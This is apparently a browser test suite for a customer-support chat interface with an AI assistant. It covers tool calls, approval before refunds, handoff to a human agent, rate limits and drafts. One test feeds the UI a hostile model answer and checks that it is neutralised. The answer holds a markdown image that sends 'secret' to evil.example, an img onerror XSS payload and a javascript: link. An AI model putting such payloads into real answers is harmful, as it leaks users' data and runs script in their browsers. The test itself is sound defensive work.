import { describe, expect, test, vi } from "vitest";
import { page, userEvent } from "vitest/browser";
import { fact, THREAD } from "../../tests-support/logs";
import { expectAccessible, expectNoSidewaysScroll, openPage } from "../../tests-support/page";
import { fakeServer, handed, json, problem, threadOf } from "../../tests-support/server";

const message = () => page.getByRole("textbox", { name: "Your message" });

async function openConversation(...facts: ReturnType<typeof fact.wrote>[]) {
  const server = fakeServer("customer");
  server.threads(threadOf());
  server.happen(...facts);
  const opened = await openPage(server, { path: `/chat/${THREAD}` });
  await expect.element(message()).toBeVisible();
  server.connect();
  return { server, ...opened };
}

describe("a new conversation", () => {
  test("begins with a suggestion, and the thread is made with the first message", async () => {
    const server = fakeServer("customer");
    const { history } = await openPage(server);
    await expect.element(page.getByRole("heading", { name: /Hello Ada/ })).toBeVisible();
    await expect.element(page.getByText("Offline model")).toBeVisible();
    await expect.element(page.getByText("Conversations that you start")).toBeVisible();
    await expectAccessible();
    server.connect();

    await page.getByRole("button", { name: "Where is my order 1001?" }).click();

    await vi.waitFor(() => expect(history.location.pathname).toBe(`/chat/${THREAD}`));
    await vi.waitFor(() =>
      expect(server.sent.at(-1)).toMatchObject({
        type: "send",
        thread_id: THREAD,
        text: "Where is my order 1001?",
      }),
    );
    await expect.element(page.getByText("Sending…")).toBeVisible();
  });

  test("that cannot be made says so and keeps the draft", async () => {
    const server = fakeServer("customer");
    server.routes["POST /api/threads"] = () => problem(503, "DB_UNAVAILABLE", "Not just now.");
    await openPage(server);

    await message().fill("Hello there");
    await userEvent.keyboard("{Enter}");

    await expect.element(page.getByRole("alert")).toHaveTextContent("Not just now.");
    await expect.element(page.getByText("DB_UNAVAILABLE")).toBeVisible();
    await expect.element(message()).toHaveValue("Hello there");
  });
});

describe("a conversation", () => {
  test("streams the answer, shows the tool call, and ends accessible", async () => {
    const { server } = await openConversation();
    await message().fill("Where is my order 1001?");
    await userEvent.keyboard("{Enter}");
    await vi.waitFor(() => expect(server.sent.at(-1)).toMatchObject({ type: "send" }));
    const sent = server.sent.at(-1);
    const id = sent?.type === "send" ? sent.message_id : "";

    server.happen(fact.wrote(id, "Where is my order 1001?"), fact.opened(), fact.called());
    await expect.element(page.getByText("Working on it…")).toBeVisible();
    await expect.element(page.getByRole("button", { name: "Stop answering" })).toBeVisible();
    server.happen(fact.refused("c1", 1), fact.attempt("c1", 2), fact.returned("c1", "done"));
    server.happen({ live: "r1", offset: 0, text: "It is **on" });
    await expect.element(page.getByText("2 attempts")).toBeVisible();
    await expect.element(page.getByText(/It is/)).toBeVisible();
    server.happen(fact.answered("r1", "It is **on its way**."), fact.closed());

    await expect.element(page.getByText("on its way", { exact: true })).toBeVisible();
    expect(page.getByRole("log").query()?.getAttribute("aria-live")).toBe("off");
    expect(page.getByText("Where is my order 1001?", { exact: true }).elements()).toHaveLength(3);
    await expect.element(page.getByText("Working on it…")).not.toBeInTheDocument();
    await page.getByText("Look up an order").click();
    await expect.element(page.getByRole("region", { name: /Arguments/ })).toBeVisible();
    await expectAccessible();
    expectNoSidewaysScroll();
  });

  test("offers to connect the customer's account, and says what to do then", async () => {
    const { server } = await openConversation(
      fact.wrote("m1", "Where is my order?"),
      fact.opened(),
      fact.called(),
      fact.connection(),
      fact.returned("c1", "failed"),
      fact.answered("r1", "Please connect your account first."),
      fact.closed(),
    );
    const tab = { opener: {}, location: { replace: vi.fn() }, close: vi.fn() };
    const open = vi.spyOn(window, "open").mockReturnValue(tab as unknown as Window);
    server.routes["GET /api/connect/0197a4c6-5b3e-7cc8-9d21-000000000001/login"] = () =>
      problem(404, "VAL_NOT_FOUND", "I could not find that.");
    await expectAccessible();

    await page.getByRole("button", { name: "Connect my account" }).click();
    await expect.element(page.getByRole("alert")).toHaveTextContent("I could not find that.");
    expect(tab.close).toHaveBeenCalled();

    const url = "https://login.shop.test/authorize?state=1";
    server.routes["GET /api/connect/0197a4c6-5b3e-7cc8-9d21-000000000001/login"] = () =>
      json({ url });
    await page.getByRole("button", { name: "Connect my account" }).click();

    await expect.element(page.getByText(/then ask again here/)).toBeVisible();
    expect(tab.location.replace).toHaveBeenCalledWith(url);
    expect(tab.opener).toBeNull();
    open.mockRestore();
  });

  test("asks before a write, with exactly what will be sent", async () => {
    const { server } = await openConversation(
      fact.wrote("m1", "Refund 1002"),
      fact.opened(),
      fact.called("c1", { title: "Refund an order", access: "write" }),
      fact.asked(),
      fact.parked(),
    );
    await expect.element(page.getByText("POST http://127.0.0.1:9100/refunds")).toBeVisible();
    await expect.element(page.getByRole("row", { name: "amount 49.90" })).toBeVisible();
    await expectAccessible();

    await page.getByRole("button", { name: "Approve" }).click();
    expect(server.sent.at(-1)).toEqual({ type: "decide", approval_id: "a1", decision: "approve" });
    await expect.element(page.getByRole("button", { name: "Approve" })).toBeDisabled();
    server.happen(fact.decided("approved"), fact.opened("t1", 2));

    await expect.element(page.getByText("Approved", { exact: true })).toBeVisible();
    await expect.element(page.getByRole("button", { name: "Approve" })).not.toBeInTheDocument();
  });

  test("does not take an answer to a question that has expired", async () => {
    const asked = { ...fact.asked(), expires_at: "2020-01-01T00:00:00Z" } as ReturnType<
      typeof fact.asked
    >;
    await openConversation(fact.called(), asked);

    await expect.element(page.getByText("This question has expired.")).toBeVisible();
    await expect.element(page.getByRole("button", { name: "Approve" })).toBeDisabled();
    await expect.element(page.getByRole("button", { name: "Don’t" })).toBeDisabled();
  });

  test("says that the connection is lost, when it comes back, and sends what was written", async () => {
    const { server } = await openConversation(fact.wrote("m1", "Hello"));
    await expect.element(page.getByText("Hello")).toBeVisible();

    server.drop(60_000);
    await expect.element(page.getByText(/connection is lost. Reconnecting in/)).toBeVisible();
    await message().fill("Are you there?");
    await userEvent.keyboard("{Enter}");
    await expect.element(page.getByText("Waiting for the connection")).toBeVisible();
    await expectAccessible();
    await page.getByRole("button", { name: "Try now" }).click();

    await vi.waitFor(() =>
      expect(server.sent.at(-1)).toMatchObject({ type: "send", text: "Are you there?" }),
    );
    await expect.element(page.getByText(/connection is lost/)).not.toBeInTheDocument();
  });

  test("counts down after too many messages, and keeps the text", async () => {
    const { server } = await openConversation();
    await message().fill("Too fast");
    await userEvent.keyboard("{Enter}");
    await vi.waitFor(() => expect(server.sent.at(-1)?.type).toBe("send"));
    const sent = server.sent.at(-1);

    const ref = sent?.type === "send" ? sent.message_id : "";
    const error = { code: "RATE_LIMITED", message: "Slow.", correlation_id: "x", ref };
    server.frame({ error: { ...error, retry_after: 1.2 } });

    await expect.element(page.getByText(/You can send again in \d s/)).toBeVisible();
    await expect.element(message()).toHaveValue("Too fast");
    await expect.element(page.getByRole("button", { name: "Send" })).toBeDisabled();
    await expect.element(page.getByRole("button", { name: "Send" })).toBeEnabled();
  });

  test("says why nothing more is taken in, and keeps the text", async () => {
    const { server } = await openConversation();
    await message().fill("Is anybody there?");
    await userEvent.keyboard("{Enter}");
    await vi.waitFor(() => expect(server.sent.at(-1)?.type).toBe("send"));
    const sent = server.sent.at(-1);

    const ref = sent?.type === "send" ? sent.message_id : "";
    const error = { code: "SYS_BUSY", message: "Many people.", correlation_id: "x", ref };
    server.frame({ error: { ...error, retry_after: 1.2 } });

    await expect.element(page.getByText(/Many people. You can send again in \d s/)).toBeVisible();
    await expect.element(message()).toHaveValue("Is anybody there?");
    await expect.element(page.getByRole("button", { name: "Send" })).toBeEnabled();
  });

  test("says how many come before it, until it is answered, and can be stopped", async () => {
    const { server } = await openConversation(fact.wrote("m1", "Hello"));
    const waiting = (before: number) =>
      server.frame({ waiting: { thread_id: THREAD, run_id: "t1.1", before } });

    waiting(3);
    await expect
      .element(page.getByText(/writing at the moment. 3 others are before/))
      .toBeVisible();
    await expectAccessible();
    waiting(1);
    await expect.element(page.getByText(/1 other is before you/)).toBeVisible();
    waiting(0);
    await expect.element(page.getByText(/You are next/)).toBeVisible();
    await page.getByRole("button", { name: "Stop answering" }).click();
    expect(server.sent.at(-1)).toEqual({ type: "cancel", thread_id: THREAD });

    server.happen(fact.opened());
    await expect.element(page.getByText("Working on it…")).toBeVisible();
    await expect.element(page.getByText(/writing at the moment/)).not.toBeInTheDocument();
    waiting(0);
    server.happen(fact.answered("r1", "Hi"), fact.closed());
    await expect.element(page.getByText("Hi", { exact: true })).toBeVisible();
    await expect.element(page.getByText(/writing at the moment/)).not.toBeInTheDocument();
  });

  test("can be stopped, and marked as resolved", async () => {
    const { server } = await openConversation(fact.wrote("m1", "Hello"), fact.opened());

    await page.getByRole("button", { name: "Stop answering" }).click();
    expect(server.sent.at(-1)).toEqual({ type: "cancel", thread_id: THREAD });
    await page.getByRole("button", { name: "Mark as resolved" }).click();

    await vi.waitFor(() => expect(server.asked).toContain(`POST /api/threads/${THREAD}/resolve`));
    server.happen(fact.closed("cancelled"), fact.resolved());
    await expect.element(page.getByText("Stopped.").first()).toBeVisible();
    await expect.element(page.getByText(/is marked as resolved/).first()).toBeVisible();
    await expect
      .element(page.getByRole("button", { name: "Mark as resolved" }))
      .not.toBeInTheDocument();
  });

  test("shows an error of the socket with its reference, until it is dismissed", async () => {
    const { server } = await openConversation(fact.wrote("m1", "Hello"));
    const error = {
      code: "SYS_INTERNAL",
      message: "Something went wrong.",
      correlation_id: "c-77",
    };
    server.frame({ error });

    await expect.element(page.getByText("ref c-77")).toBeVisible();
    await page.getByRole("button", { name: "Dismiss" }).click();

    await expect.element(page.getByText("ref c-77")).not.toBeInTheDocument();
  });

  test("that does not exist says so", async () => {
    const server = fakeServer("customer");
    await openPage(server, { path: `/chat/${THREAD}` });

    await expect.element(page.getByText("There is no such conversation")).toBeVisible();
    await expectAccessible();
  });

  test("draws the newest of many messages first, and the older ones on request", async () => {
    const many = Array.from({ length: 300 }, (_, n) => fact.wrote(`m${n}`, `Message ${n}.`));
    await openConversation(...many);

    await expect.element(page.getByText("Message 299.")).toBeVisible();
    expect(page.getByText("Message 10.").query()).toBeNull();
    const earlier = page.getByRole("button", { name: "Show earlier messages (180)" });
    expect(earlier.query()).not.toBeNull();
    (earlier.element() as HTMLElement).click();

    await expect.element(page.getByText("Message 100.")).toBeInTheDocument();
  });

  test("fits a phone, with the list in a drawer", async () => {
    const server = fakeServer("customer");
    server.threads(threadOf());
    server.happen(fact.wrote("m1", "Refund 1002"), fact.called(), fact.asked());
    await openPage(server, { path: `/chat/${THREAD}`, width: 390, height: 844 });
    await expect.element(message()).toBeVisible();
    server.connect();
    await expect.element(page.getByRole("button", { name: "Approve" })).toBeVisible();
    expectNoSidewaysScroll();
    await expectAccessible();

    await page.getByRole("button", { name: "Your conversations" }).click();

    await expect.element(page.getByRole("dialog")).toBeVisible();
    await expect.element(page.getByRole("link", { name: "New conversation" })).toBeVisible();
    await expectAccessible();
  });
});

describe("a person of the team", () => {
  test.each([1280, 390])("is asked for with a note, and answers, %i pixels wide", async (width) => {
    const { server } = await openConversation(fact.wrote("m1", "Refund 1002"));
    await page.viewport(width, 844);
    const bodies: unknown[] = [];
    server.routes["POST /api/threads/*/handoff"] = async (_, request) => {
      bodies.push(await request.json());
      server.threads(threadOf(handed()));
      server.happen(fact.handoff("customer"));
      return json(threadOf(handed()));
    };
    const open = page.getByRole("button", { name: "Talk to a person" });
    await open.click();
    await page.getByRole("textbox", { name: /What should they know/ }).fill("It arrived broken");
    await expectAccessible();
    expectNoSidewaysScroll();
    await page.getByRole("button", { name: "Ask for a person" }).click();

    await expect.element(page.getByRole("log").getByText(/is asked to take over/)).toBeVisible();
    await expect.element(open).not.toBeInTheDocument();
    expect(bodies).toEqual([{ note: "It arrived broken" }]);
    await message().fill("Hello?");
    await userEvent.keyboard("{Enter}");
    await vi.waitFor(() => expect(server.sent.at(-1)?.type).toBe("send"));
    const sent = server.sent.at(-1);
    const id = sent?.type === "send" ? sent.message_id : "";
    server.frame({
      ack: { thread_id: THREAD, message_id: id, turn_id: "t2", status: "to_person" },
    });
    await expect.element(page.getByText("Sent – a person will answer")).toBeVisible();
    expect(page.getByText("Working on it…").query()).toBeNull();

    server.happen(fact.wrote(id, "Hello?", "t2", true), fact.tookOver());
    server.happen(fact.personSaid("d1", "Hello Ada, <b>I</b> look into it."));
    const said = page.getByRole("article").filter({ hasText: "Kim Osei" });
    await expect.element(said).toHaveTextContent("Hello Ada, <b>I</b> look into it.");
    await expectAccessible();
    server.happen(fact.gaveBack());
    await expect.element(page.getByRole("log").getByText(/Kim Osei has left/)).toBeVisible();
    await expect.element(open).toBeVisible();
  });

  test("that cannot be asked for says why, and the wish can be dropped", async () => {
    const { server } = await openConversation(fact.wrote("m1", "Hello"));
    server.routes["POST /api/threads/*/handoff"] = () => problem(503, "DB_UNAVAILABLE", "Not now.");
    await page.getByRole("button", { name: "Talk to a person" }).click();

    await page.getByRole("button", { name: "Ask for a person" }).click();

    await expect.element(page.getByRole("alert")).toHaveTextContent("Not now.");
    await page.getByRole("button", { name: "Cancel" }).click();
    await expect.element(page.getByRole("alert")).not.toBeInTheDocument();
  });
});

describe("the composer", () => {
  test("breaks the line on Shift+Enter, and sends on Enter unless a word is being composed", async () => {
    const { server } = await openConversation();
    await message().fill("one");
    await userEvent.keyboard("{Shift>}{Enter}{/Shift}two");
    await expect.element(message()).toHaveValue("one\ntwo");

    const composing = { key: "Enter", bubbles: true, cancelable: true, isComposing: true };
    message().element().dispatchEvent(new KeyboardEvent("keydown", composing));
    expect(server.sent.filter(({ type }) => type === "send")).toEqual([]);
    await userEvent.keyboard("{Enter}");

    await vi.waitFor(() => expect(server.sent.at(-1)).toMatchObject({ text: "one\ntwo" }));
    await expect.element(message()).toHaveValue("");
  });

  test("refuses blanks, and more than 8,000 characters as people count them", async () => {
    await openConversation();
    const send = page.getByRole("button", { name: "Send" });

    await message().fill("   \n ");
    await expect.element(send).toBeDisabled();
    await message().fill("📦".repeat(8_000));
    await expect.element(send).toBeEnabled();
    await message().fill(`${"📦".repeat(8_000)}!`);

    await expect.element(send).toBeDisabled();
    await expect.element(page.getByText("8,001 of 8,000 characters")).toBeVisible();
  });

  test("keeps a draft across a reload of the page", async () => {
    const { storage, screen } = await openConversation();
    await message().fill("half a thought");

    expect(Object.values({ ...storage })).toContain("half a thought");
    await screen.unmount();
  });
});

describe("the words of the model", () => {
  test("show no image, run no HTML, and leave no trail behind links", async () => {
    const evil =
      "![x](https://evil.example/?q=secret) <img src=x onerror=alert(1)> [go](https://a.example) [js](javascript:alert(1))";
    await openConversation(fact.answered("r1", evil));

    await expect.element(page.getByText("[image: x]")).toBeVisible();
    const log = page.getByRole("log").element();
    expect(log.querySelector("img")).toBeNull();
    const [link, script] = log.querySelectorAll("a");
    expect(link?.rel).toContain("noopener");
    expect(script?.getAttribute("href") ?? "").toBe("");
  });
});
